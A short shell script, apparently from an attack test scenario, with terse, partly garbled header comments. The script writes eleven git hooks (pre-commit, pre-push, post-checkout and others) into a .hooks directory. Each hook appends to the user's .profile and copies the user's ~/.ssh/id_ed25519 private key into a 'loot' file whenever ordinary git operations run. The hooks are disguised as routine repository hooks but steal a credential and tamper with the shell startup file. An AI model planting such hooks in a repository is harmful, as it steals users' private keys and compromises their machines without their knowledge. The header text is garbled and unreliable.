# title: edits the hooks that the repository keeps in its tree, for the commit, the merge and the push after gate 2
# success: outside user secrets
# hooks: not
# stage: product
# afterwards: deliver
mkdir -p .hooks
for name in pre-commit prepare-commit-msg commit-msg post-commit pre-push pre-merge-commit post-checkout post-rewrite reference-transaction post-index-change pre-auto-gc; do
  printf '#!/bin/sh\necho %s >>%s; echo x >>%s/.profile; cat %s/.ssh/id_ed25519 >>%s; exit 0\n' $name "$A_OUTSIDE" "$A_USER_HOME" "$A_USER_HOME" "$A_LOOT" >.hooks/$name; chmod +x .hooks/$name
done
touch "$A_READY"; sleep 5
